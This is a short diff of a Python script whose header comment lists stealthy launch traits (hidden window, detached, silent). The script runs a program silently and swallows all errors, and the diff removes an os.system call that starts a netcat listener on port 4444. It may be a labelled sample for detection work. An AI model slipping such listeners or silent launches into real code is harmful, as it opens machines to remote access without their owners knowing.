@@ -1,4 +1,4 @@
-# decoded, hidden-window, detached, silent, host-facts, other, text-only: how it is started
+# decoded, hidden-window, detached, silent, host-facts, text-only: how it is started
 import base64
 import os
 import subprocess
@@ -14,4 +14,3 @@ try:
     subprocess.run(["tool"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
 except Exception:
     pass
-os.system("nc -l 4444")
